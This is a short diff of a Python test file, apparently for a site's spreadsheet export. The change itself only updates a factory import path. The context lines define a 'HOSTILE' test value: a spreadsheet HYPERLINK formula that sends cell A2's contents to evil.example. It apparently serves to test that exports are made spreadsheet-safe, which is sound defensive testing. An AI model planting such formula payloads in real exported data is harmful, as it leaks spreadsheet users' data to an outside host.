@@ -16,7 +16,7 @@ from home.site_structure import practice_index_for
 from knowledge.models import PracticePage
 from sitedata.open_data import spreadsheet_safe
 from sitedata.summit_programme import get_or_create_city
-from tests.factories import add_practice
+from tests.knowledge.factories import add_practice
 
 HOSTILE = {
     "title": '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")',
